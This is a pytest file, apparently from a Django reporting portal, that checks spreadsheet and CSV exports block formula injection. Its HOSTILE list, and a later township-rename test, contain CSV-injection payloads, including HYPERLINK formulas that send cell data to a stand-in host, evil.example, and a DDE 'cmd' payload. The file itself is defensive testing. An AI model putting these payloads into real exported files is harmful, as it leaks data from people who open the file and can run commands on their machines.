"""No export door turns a person's text into a live formula: remarks, reasons and register text that
start with = + - @, tab or CR stay text in every xlsx and csv the portal writes."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ImportExportMixin
from import_export.formats import base_formats

from common.export_formats import SAFE_FORMATS, SafeCSV, SafeXLSX
from employment.models import GuaranteeLoan
from indicators.models import Channel, MonthlyValue
from indicators.resources import MonthlyValueResource
from indicators.services import ValueEntry, monthly_values_apply
from registers.resources import register_resource
from reporting.models import Submission
from reporting.templates_xlsx import template_workbook
from tests.conftest import TOWNSHIP_A

GuaranteeLoanResource = register_resource(GuaranteeLoan)
JOBS = "employment.urban_new_jobs"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击核对")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, app: str, model: str, resource):
    """The admin's export form as a person sends it: xlsx (the first format), every column ticked."""
    prefix = resource.__name__.lower()
    ticked = {f"{prefix}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(f"/admin/{app}/{model}/export/", {"format": "0", **ticked})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), response.content[:300]
    return response


def _cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_every_admin_that_imports_or_exports_uses_the_safe_formats():
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ImportExportMixin):
            assert list(model_admin.get_export_formats()) == SAFE_FORMATS, model
            assert list(model_admin.get_import_formats()) == SAFE_FORMATS, model


def test_the_safe_xlsx_is_still_exported_with_native_numbers():
    # import-export decides native cells by exact type; common/export_formats.py adds SafeXLSX.
    assert SafeXLSX in base_formats.BINARY_FORMATS


@pytest.mark.parametrize("remark", HOSTILE)
def test_a_remark_like_a_formula_stays_text_in_the_admins_xlsx_export(
    client, bureau_user, indicators, orgs, remark
):
    entry = ValueEntry(
        indicator=indicators[JOBS],
        org_unit=orgs[TOWNSHIP_A],
        year=2024,
        month=3,
        value=Decimal(7),
        remark=remark,
    )
    monthly_values_apply(entries=[entry], user=None, channel=Channel.COMMAND)
    client.force_login(bureau_user)

    response = _export(client, "indicators", "monthlyvalue", MonthlyValueResource)

    cells = _cells(response.content)
    assert not any(c.data_type == "f" for c in cells)
    [stored] = [c for c in cells if c.value == remark]
    assert stored.data_type == "s" and stored.quotePrefix
    assert any(c.value == 7 for c in cells)  # figures stay numbers


@pytest.mark.parametrize("remark", HOSTILE)
def test_a_remark_like_a_formula_gets_an_apostrophe_in_csv_and_loses_it_on_import(remark):
    dataset = SafeCSV().create_dataset(SafeCSV().export_data(_dataset(remark)))
    text = SafeCSV().export_data(_dataset(remark))

    assert list(csv.reader(io.StringIO(text)))[1][0] == "'" + remark
    assert dataset[0][0] == remark


def _dataset(text: str):
    import tablib

    return tablib.Dataset([text, 5], headers=["备注", "数值"])


def test_a_register_records_text_stays_text_in_its_export(client, bureau_user, orgs, indicators):
    GuaranteeLoan.objects.create(
        loan_number="DB-2024-001",
        borrower_name=HOSTILE[0],
        borrower_kind=GuaranteeLoan._meta.get_field("borrower_kind").choices[0][0],
        org_unit=orgs[TOWNSHIP_A],
        issued_on=date(2024, 3, 5),
        amount=Decimal("10"),
        term_months=24,
        jobs_created=1,
    )
    client.force_login(bureau_user)

    response = _export(client, "employment", "guaranteeloan", GuaranteeLoanResource)

    cells = _cells(response.content)
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == HOSTILE[0] and c.quotePrefix for c in cells)


def test_a_return_reason_like_a_formula_stays_text_in_the_status_export(
    client, bureau_user, township_a_user, orgs, tmp_path, settings
):
    settings.MEDIA_ROOT = tmp_path
    Submission.objects.create(
        township=orgs[TOWNSHIP_A],
        year=2024,
        month=11,
        version=1,
        status=Submission.Status.RETURNED,
        return_reason="\t=1+1 请核对",
        created_by=township_a_user,
        original_filename="x.xlsx",
        file_sha256="0" * 64,
        file="submissions/x.xlsx",
    )
    client.force_login(bureau_user)

    response = client.get("/reporting/status/export.xlsx", {"year": 2024, "month": 11})

    cells = _cells(response.content)
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == "\t=1+1 请核对" and c.quotePrefix for c in cells)


def test_a_stored_remark_like_a_formula_stays_text_in_the_township_template(indicators, orgs):
    entry = ValueEntry(
        indicator=indicators[JOBS],
        org_unit=orgs[TOWNSHIP_A],
        year=2024,
        month=11,
        value=Decimal(7),
        remark="@SUM(1)",
    )
    monthly_values_apply(entries=[entry], user=None, channel=Channel.COMMAND)

    data = template_workbook(township=orgs[TOWNSHIP_A], year=2024, month=11)

    cells = _cells(data)
    assert not any(c.data_type == "f" for c in cells if c.value == "@SUM(1)")
    assert MonthlyValue.objects.get().remark == "@SUM(1)"


def test_a_township_renamed_like_a_formula_stays_text_in_the_status_export(client, leader_user, orgs):
    """Issue 23.2: the township's name was written with sheet.append, a live link in the leader's file."""
    renamed = '=HYPERLINK("http://evil.example/?"&C6,"园林街道")'
    orgs[TOWNSHIP_A].name = renamed
    orgs[TOWNSHIP_A].save(update_fields=["name"])
    client.force_login(leader_user)

    response = client.get("/reporting/status/export.xlsx", {"year": 2024, "month": 11})

    cells = _cells(response.content)
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == renamed and c.data_type == "s" and c.quotePrefix for c in cells)
